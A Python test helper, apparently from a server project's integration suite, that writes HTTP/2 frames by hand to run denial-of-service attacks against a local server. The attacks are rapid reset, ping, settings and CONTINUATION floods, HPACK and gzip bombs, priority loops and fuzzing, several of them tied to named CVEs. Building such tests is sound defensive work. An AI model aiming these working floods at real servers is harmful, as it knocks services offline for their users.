"""HTTP/2 that no client library sends: frames by the thousand, written by hand. Source: RFC 9113; RFC 7541."""

from __future__ import annotations

import asyncio
import gzip
import random
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from typing import Final

import hpack

from tests.integration.doors import framed

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
SECONDS: Final = 15.0
"""Longest that an attack goes on; each is over sooner where the server hangs up."""

Head = list[tuple[bytes, bytes]]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Write a frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


class Attacker:
    """One connection to a door. `head`: of a request that would be answered."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, head: Head) -> None:
        self._reader = reader
        self._writer = writer
        self.head = hpack.Encoder().encode(head, huffman=False)
        self.received = 0

    async def send(self, data: bytes) -> None:
        """Send bytes; what comes back is thrown away by `swallow`. Raises ConnectionError once the server hung up."""
        self._writer.write(data)
        await self._writer.drain()

    async def swallow(self) -> None:
        """Read until the server hangs up."""
        while received := await self._reader.read(65536):
            self.received += len(received)

    def stream(self, number: int) -> int:
        """Give the id of a client's stream."""
        return 2 * number + 1


Attack = Callable[[Attacker], Awaitable[None]]


@asynccontextmanager
async def connected(port: int, head: Head, window: int = 65_535) -> AsyncIterator[Attacker]:
    """Begin a connection whose answers may take `window` bytes a stream."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    attacker = Attacker(reader, writer, head)
    swallowing = asyncio.ensure_future(attacker.swallow())
    try:
        await attacker.send(PREFACE + frame(SETTINGS, 0, 0, b"\0\x04" + window.to_bytes(4, "big")))
        yield attacker
    finally:
        swallowing.cancel()
        writer.close()
        with suppress(asyncio.CancelledError, ConnectionError):
            await swallowing


async def rapid_reset(attacker: Attacker) -> None:
    """Requests that are taken back at once: the server begins each. Source: CVE-2023-44487."""
    for begin in range(0, 4000, 50):
        await attacker.send(
            b"".join(
                frame(HEADERS, END_STREAM | END_HEADERS, attacker.stream(number), attacker.head)
                + frame(RST_STREAM, 0, attacker.stream(number), b"\0\0\0\x08")
                for number in range(begin, begin + 50)
            )
        )


async def pings(attacker: Attacker) -> None:
    """Each asks for an answer. Source: CVE-2019-9512."""
    for _ in range(100):
        await attacker.send(frame(PING, 0, 0, b"12345678") * 200)


async def settings(attacker: Attacker) -> None:
    """Each asks for an answer. Source: CVE-2019-9515."""
    for _ in range(50):
        await attacker.send(frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64") * 100)


async def continuations(attacker: Attacker) -> None:
    """Headers that never end. Source: CVE-2024-27316."""
    await attacker.send(frame(HEADERS, 0, 1, attacker.head))
    for _ in range(2000):
        await attacker.send(frame(CONTINUATION, 0, 1, b"\x00\x01x\x7f\x80\x07" + b"v" * 1000))


async def hpack_bomb(attacker: Attacker) -> None:
    """A header of 4 kB kept in the table, then named by one byte each, some sixteen thousand times."""
    block = attacker.head + b"\x40\x01x\x7f\x81\x1e" + b"v" * 4000
    for number in range(20):
        await attacker.send(frame(HEADERS, END_STREAM | END_HEADERS, attacker.stream(number), block + b"\xbe" * 12_000))


async def open_streams(attacker: Attacker) -> None:
    """Requests whose bodies never come."""
    for number in range(3000):
        await attacker.send(frame(HEADERS, END_HEADERS, attacker.stream(number), attacker.head))
    await asyncio.sleep(0.5)


async def empty_data(attacker: Attacker) -> None:
    """Frames of nothing, which no window bounds. Source: CVE-2019-9518."""
    await attacker.send(frame(HEADERS, END_HEADERS, 1, attacker.head))
    for _ in range(200):
        await attacker.send(frame(DATA, 0, 1) * 100)


async def windows(attacker: Attacker) -> None:
    """A window beyond its end, and updates of nothing."""
    await attacker.send(frame(HEADERS, END_HEADERS, 1, attacker.head))
    await attacker.send(frame(WINDOW_UPDATE, 0, 1, b"\x7f\xff\xff\xff") * 3 + frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\0"))


async def priorities(attacker: Attacker) -> None:
    """Streams that depend on one another, and on themselves. Source: CVE-2019-9513."""
    for begin in range(0, 5000, 100):
        numbers = range(begin, begin + 100)
        await attacker.send(
            b"".join(
                frame(PRIORITY, 0, attacker.stream(number), attacker.stream(number // 2).to_bytes(4, "big") + b"\xff")
                for number in numbers
            )
        )


async def noise(attacker: Attacker) -> None:
    """Frames of any kind, on any stream, with anything in them."""
    chance = random.Random(7)
    for _ in range(500):
        size = chance.choice((0, 1, 5, 8, 100, 5000))
        await attacker.send(
            frame(chance.randrange(12), chance.randrange(256), chance.randrange(0, 9), chance.randbytes(size))
        )


async def long_frame(attacker: Attacker) -> None:
    """A frame that says that it has 16 MB, and goes on and on."""
    await attacker.send(frame(HEADERS, END_HEADERS, 1, attacker.head))
    await attacker.send(b"\xff\xff\xff" + bytes([DATA, 0]) + (1).to_bytes(4, "big"))
    for _ in range(256):
        await attacker.send(b"a" * 65_536)


async def never_read(attacker: Attacker, body: bytes) -> None:
    """Requests with large answers, none of which is taken: to be used with a window of zero. Source: CVE-2019-9511."""
    for number in range(200):
        stream = attacker.stream(number)
        await attacker.send(frame(HEADERS, END_HEADERS | (0 if body else END_STREAM), stream, attacker.head))
        if body:
            await attacker.send(frame(DATA, END_STREAM, stream, body))
    await asyncio.sleep(4)


async def half_a_preface(attacker: Attacker) -> None:
    """The beginning of a connection, again."""
    await attacker.send(PREFACE[:12])


BOTH_DOORS: Final[tuple[Attack, ...]] = (
    rapid_reset,
    pings,
    settings,
    continuations,
    hpack_bomb,
    open_streams,
    empty_data,
    windows,
    priorities,
    noise,
    long_frame,
    half_a_preface,
)


def grpc_call(message: bytes, *, is_compressed: bool = False) -> bytes:
    """Write the one message of a call."""
    return (b"\x01" if is_compressed else b"\0") + framed(message)[1:]


def bomb(megabytes: int) -> bytes:
    """Give zeros that take a thousandth of their size on the wire."""
    return gzip.compress(b"\0" * (megabytes * 1024 * 1024), 9)


async def call_with(attacker: Attacker, message: bytes) -> None:
    """Make one call with a message of any size, as fast as the server takes it."""
    await attacker.send(frame(HEADERS, END_HEADERS, 1, attacker.head))
    for place in range(0, len(message), 16_384):
        await attacker.send(frame(DATA, 0, 1, message[place : place + 16_384]))
    await attacker.send(frame(DATA, END_STREAM, 1))
    await asyncio.sleep(1)
